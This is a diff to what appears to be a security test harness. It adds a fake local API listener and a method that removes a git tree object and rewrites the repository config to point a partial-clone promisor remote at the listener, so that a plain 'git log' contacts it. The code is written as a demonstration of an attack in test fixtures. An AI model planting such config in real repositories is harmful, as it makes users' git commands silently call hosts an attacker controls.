@@ -84,7 +84,7 @@ class Listener:
                 listener.heard.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")
                 choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": REPLY}}
                 answer = json.dumps({"id": "1", "model": "m", "choices": [choice], "data": []}).encode()
-                self.send_response(200)
+                self.send_response(404 if self.path.startswith("/nothing") else 200)
                 self.send_header("Content-Type", "application/json")
                 self.send_header("Content-Length", str(len(answer)))
                 self.end_headers()
@@ -104,6 +104,23 @@ class Listener:
     def url(self) -> str:
         """Where it listens."""
         return f"http://127.0.0.1:{self._server.server_port}"
+
+    def hides_history_of(self, repository: str, victim: Victim) -> None:
+        """Take a part of a repository's history away, and have git look for it here."""
+        git = ("git", "-C", repository)
+        tree = victim.run(*git, "rev-parse", "HEAD^{tree}").stdout.strip()
+        (victim.folder / repository / ".git/objects" / tree[:2] / tree[2:]).unlink()
+        for name, value in (
+            ("core.repositoryFormatVersion", "1"),
+            ("extensions.partialClone", "origin"),
+            ("remote.origin.promisor", "true"),
+            ("remote.origin.url", f"{self.url}/nothing"),
+            ("protocol.http.allow", "always"),
+        ):
+            victim.run(*git, "config", name, value)
+        victim.run(*git, "log", "--name-only")
+        assert self.heard, "the attack works against plain git"
+        self.heard.clear()
 
     def close(self) -> None:
         """Stop listening."""
